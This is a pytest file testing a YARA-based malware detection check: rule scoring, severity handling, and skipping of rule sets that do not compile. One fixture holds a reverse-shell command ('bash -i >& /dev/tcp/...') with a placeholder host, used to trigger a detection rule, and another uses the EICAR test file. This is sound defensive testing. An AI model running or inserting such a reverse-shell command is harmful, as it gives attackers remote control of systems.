import pytest
from citysoc_agent.checks import yara
from citysoc_agent.checks.base import Context, Skip

from tests.agent.support import EICAR, EICAR_RULE, FIXTURES, item

pytest.importorskip("yara_x", reason="yara-x is not installed (pip install yara-x)")


def _prepared():
    sets = [
        {"name": "defectdojo", "version": 3, "source": (FIXTURES / "yara/rules.yar").read_text()},
        {"name": "citysoc-builtin", "version": 1, "source": EICAR_RULE},
    ]
    return yara.prepare(Context(job={"yara": sets}))


def test_it_reports_the_rule_its_set_version_author_and_severity_score():
    found = yara.run(_prepared(), item("/var/www/x.sh", b"#!/bin/sh\nbash -i >& /dev/tcp/1/2\n"))
    assert [(f.rule, f.score) for f in found] == [
        ("defectdojo:Suspicious_Reverse_Shell_Command", 90)
    ]
    assert found[0].detail == {"rule_set": "defectdojo v3"}
    assert "generic-ruleset" in found[0].title  # the rule's author stays in the message


def test_the_score_meta_wins_over_severity():
    found = yara.run(_prepared(), item("/srv/up/eicar.com", EICAR))
    assert [(f.rule, f.score) for f in found] == [("citysoc_builtin:EICAR_Test_File", 100)]


def test_a_low_severity_rule_only_makes_a_notice_level_score():
    found = yara.run(_prepared(), item("/etc/app.conf", b"debug_endpoint=enabled"))
    assert [f.score for f in found] == [40]


def test_a_rule_set_that_does_not_compile_is_skipped_with_its_name():
    with pytest.raises(Skip, match="broken"):
        yara.prepare(Context(job={"yara": [{"name": "broken", "source": "rule {"}]}))
